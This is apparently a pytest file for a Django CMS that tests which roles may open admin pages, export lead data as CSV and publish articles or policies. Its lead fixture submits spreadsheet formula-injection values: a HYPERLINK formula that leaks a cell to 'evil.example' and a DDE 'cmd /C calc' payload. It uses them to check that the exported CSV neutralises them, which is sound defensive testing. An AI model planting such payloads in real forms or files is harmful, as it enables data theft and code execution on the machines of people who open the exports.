"""Who may open which admin page, export leads and publish: the matrix of cms/security/roles.py, through HTTP."""

import csv
import io

import pytest

from articles.models import Article
from cms.public.models import SiteSettings
from cms.security.models import PERSONAL_DATA_ACTIONS, AuditAction, AuditEntry
from cms.workflow.states import Status
from policies.models import Policy
from submissions.models import Inquiry
from tests.factories import DraftArticleFactory, InReviewArticleFactory, PolicyFactory

from .tools import rendered_form_data

pytestmark = pytest.mark.django_db

ROLES = ["editor", "reviewer", "officer", "staff_without_role", "superuser", "anonymous"]
#: changelist → expected status per role, in the order of ROLES.
MATRIX = {
    "/admin/articles/article/": [200, 200, 403, 403, 200, 302],
    "/admin/policies/policy/": [200, 200, 403, 403, 200, 302],
    "/admin/submissions/contribution/": [403, 200, 403, 403, 200, 302],
    "/admin/submissions/inquiry/": [403, 403, 200, 403, 200, 302],
    "/admin/submissions/outboundemail/": [403, 403, 403, 403, 200, 302],
    "/admin/cms/auditentry/": [403, 200, 403, 403, 200, 302],
    "/admin/auth/user/": [403, 403, 403, 403, 200, 302],
    "/admin/cms/sitesettings/1/change/": [403, 200, 403, 403, 200, 302],
}
CASES = [
    pytest.param(url, role, statuses[index], id=f"{url.split('/')[3]}-{role}")
    for url, statuses in MATRIX.items()
    for index, role in enumerate(ROLES)
]


def login_as(client, request, role: str) -> None:
    if role != "anonymous":
        client.force_login(request.getfixturevalue(role))


@pytest.mark.parametrize("url,role,expected", CASES)
def test_admin_pages_per_role(client, request, url, role, expected):
    SiteSettings.load()  # the singleton row exists on a running site
    login_as(client, request, role)
    response = client.get(url)
    assert response.status_code == expected, (role, url)
    if expected == 302:
        assert response["Location"].startswith(f"/admin/login/?next={url}")


@pytest.fixture
def lead(client, django_capture_on_commit_callbacks):
    """A lead sent through /consult/, its company written to run as a spreadsheet formula."""
    hidden = rendered_form_data(client, "/consult/")
    data = {
        **hidden,
        "topic": "policy",
        "name": "陈晓",
        "phone": "13800138000",
        "consent": "on",
        "company": '=HYPERLINK("https://evil.example/?leak="&A1,"点击")',
        "message": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post("/consult/", data).status_code == 302
    return Inquiry.objects.get()


EXPORT = {"action": "action_export", "index": "0"}


@pytest.mark.parametrize(
    "role,expected",
    [
        ("officer", 200),
        ("superuser", 200),
        ("editor", 403),
        ("reviewer", 403),
        ("staff_without_role", 403),
        ("anonymous", 302),
    ],
)
def test_lead_export_per_role(client, request, lead, role, expected):
    login_as(client, request, role)
    response = client.post("/admin/submissions/inquiry/", {**EXPORT, "_selected_action": [lead.pk]})
    assert response.status_code == expected
    if expected == 200:
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert "13800138000" in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "formula cells are neutralised"
        assert AuditEntry.objects.filter(action=AuditAction.EXPORT).count() == 1
    else:
        assert not AuditEntry.objects.filter(action__in=PERSONAL_DATA_ACTIONS).exists()
        assert b"13800138000" not in response.content


@pytest.mark.parametrize("role", ["editor", "reviewer", "staff_without_role"])
def test_lead_details_stay_hidden_without_the_role(client, request, lead, role):
    login_as(client, request, role)
    response = client.get(f"/admin/submissions/inquiry/{lead.pk}/change/")
    assert response.status_code == 403 and b"13800138000" not in response.content


PUBLISHABLE = {
    "article": ("/admin/articles/article/", lambda: InReviewArticleFactory(), Article),
    "policy": ("/admin/policies/policy/", lambda: PolicyFactory(status=Status.IN_REVIEW, publish_at=None), Policy),
}


@pytest.mark.parametrize("kind", list(PUBLISHABLE))
@pytest.mark.parametrize("role", ["editor", "officer", "staff_without_role"])
def test_roles_without_publish_permission_cannot_publish(client, request, kind, role):
    changelist, make, model = PUBLISHABLE[kind]
    item = make()
    login_as(client, request, role)
    assert client.post(f"{changelist}{item.pk}/workflow/publish/", {"comment": ""}).status_code == 403
    client.post(changelist, {"action": "action_publish", "_selected_action": [item.pk], "index": "0"})
    client.post(f"{changelist}{item.pk}/change/", {"status": "published", "title": "改名"})
    item = model.objects.get(pk=item.pk)
    assert item.status == Status.IN_REVIEW and item.publish_at is None
    client.logout()
    assert client.get(item.get_absolute_url()).status_code == 404


def test_reviewer_can_publish_the_same_way(client, reviewer):
    """The control for the test above: the same POST by a reviewer publishes."""
    article = DraftArticleFactory()
    client.force_login(reviewer)
    assert client.post(f"/admin/articles/article/{article.pk}/workflow/publish/", {"comment": ""}).status_code == 302
    article.refresh_from_db()
    assert article.status == Status.PUBLISHED
